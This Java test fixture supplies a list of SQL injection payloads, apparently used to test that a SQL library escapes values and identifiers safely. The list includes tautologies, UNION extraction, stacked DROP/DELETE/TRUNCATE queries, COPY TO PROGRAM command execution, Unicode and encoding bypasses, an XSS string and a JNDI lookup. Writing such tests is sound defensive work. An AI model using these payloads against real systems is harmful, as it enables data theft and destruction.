package io.covet.sql;

import java.util.ArrayList;
import java.util.List;

/** Injection payloads: used as values and as identifiers by {@link InjectionTest}. */
final class Payloads {
    private Payloads() {
    }

    static List<String> all() {
        List<String> p = new ArrayList<>(List.of(
                // classic tautologies and comment-terminated strings
                "' OR 1=1 --", "' OR '1'='1", "' OR 'a'='a' --", "\" OR \"\"=\"", "\" OR 1=1 --", "admin'--",
                "admin' #", "' OR 1=1#", "') OR ('1'='1", "')) OR (('1'='1", "1 OR 1=1", "1' OR '1'='1' /*",
                "x' AND 1=0 UNION SELECT NULL --", "' UNION SELECT id, name FROM victims --",
                "' UNION ALL SELECT NULL, NULL, NULL --", "' AND 1=CAST((SELECT name FROM victims LIMIT 1) AS INT) --",
                "1 AND 1=2", "' HAVING 1=1 --", "' GROUP BY id HAVING 1=1 --", "' ORDER BY 1 --",
                // stacked queries
                "'; DROP TABLE victims; --", "\"; DROP TABLE victims; --", "`; DROP TABLE victims; --",
                "1; DELETE FROM victims", "'); DROP TABLE victims; --", "'; TRUNCATE victims; --",
                "'; UPDATE victims SET name = 'pwned'; --", "'; INSERT INTO victims VALUES (999, 'x'); --",
                "; SHUTDOWN; --", "'; ATTACH DATABASE '/tmp/evil.db' AS evil; --", "'; PRAGMA writable_schema=1; --",
                "'; COPY victims TO PROGRAM 'id'; --", "'; SELECT pg_sleep(5); --", "'; SELECT SLEEP(5); --",
                // comment tricks
                "/* */", "'/**/OR/**/1=1/**/--", "*/ OR 1=1 /*", "/*!50000 OR 1=1*/", "--", "-- comment", "#",
                "' #", "'-- -", "/*", "*/", "'/*", "admin'/*", "1/**/UNION/**/SELECT/**/1",
                // quote doubling and mixing
                "''", "''''", "'''; DROP TABLE victims; --", "\"\"", "`", "``", "'\"`", "O'Brien", "it's",
                "\"quoted\"", "`backticked`", "[bracketed]", "'||'", "' || (SELECT 1) || '",
                // Unicode look-alikes of quotes and separators
                "\u02bc OR 1=1 --", "\u2019 OR 1=1 --", "\u2018 OR \u20181\u2019=\u20191", "\uff07 OR 1=1 --",
                "\uff02 OR 1=1 --", "\u201c OR \u201d=\u201d", "\u2032 OR 1=1", "\u00b4 OR 1=1", "\u02b9 OR 1=1",
                "\uff1b DROP TABLE victims", "\u037e DROP TABLE victims", "\u2215\u2215 comment",
                // backslash escapes (MariaDB treats backslashes in literals specially)
                "\\' OR 1=1 --", "\\\\' OR 1=1 --", "\\\" OR 1=1 --", "\\", "\\\\", "\\'", "\\0", "\\n",
                "\u00bf' OR 1=1 --", "\u00bf\\' OR 1=1 --", "%bf%27 OR 1=1", "\\x27 OR 1=1", "0x27204f5220313d31",
                "\\N", "\\Z", "\\%", "\\_",
                // NUL and other control characters
                "a\u0000b", "\u0000' OR 1=1 --", "'\u0000; DROP TABLE victims", "line1\nline2",
                "x'\n; DROP TABLE victims; --", "x'\r\n; DROP TABLE victims; --", "tab\tseparated", "\u001a",
                "\u0008\u0008\u0008", "\u2028; DROP TABLE victims", "\u2029",
                // placeholders, escapes and driver syntax
                "?", "??", "? OR 1=1", "$1", ":name", "{fn now()}", "{d '2020-01-01'}", "{call victims()}",
                "{escape '\\'}", "$$; DROP TABLE victims; $$", "$tag$ x $tag$", "E'\\''", "N'x'", "_utf8'x'",
                // wildcards and pattern syntax
                "%", "_", "%' OR '%'='", "%%", "!", "!%", "[a-z]%", "^.*$",
                // timing and function probes
                "' AND SLEEP(5) --", "1 WAITFOR DELAY '0:0:5'", "' || pg_sleep(5) || '", "char(39)",
                "'||(SELECT version())||'", "' AND extractvalue(1, concat(0x7e, version())) --",
                // encodings, emoji, bidi and invisible characters
                "\ud83d\ude00' OR 1=1 --", "\u202e' OR 1=1 --", "\u200b' OR 1=1 --", "\ufeff' OR 1=1 --",
                "\u0130stanbul", "\u00df\u1e9e", "e\u0301", "\ud834\udd1e",
                // structured data that looks like code
                "{\"a\": \"' OR 1=1\"}", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "null", "NULL", "",
                " ", "true"));
        p.add("A".repeat(100_000));
        p.add("'".repeat(5_000));
        p.add("' OR 1=1 -- ".repeat(1_000));
        p.add("\uff07".repeat(30));
        p.add("x".repeat(64));
        p.add("y".repeat(129));
        return List.copyOf(p);
    }
}
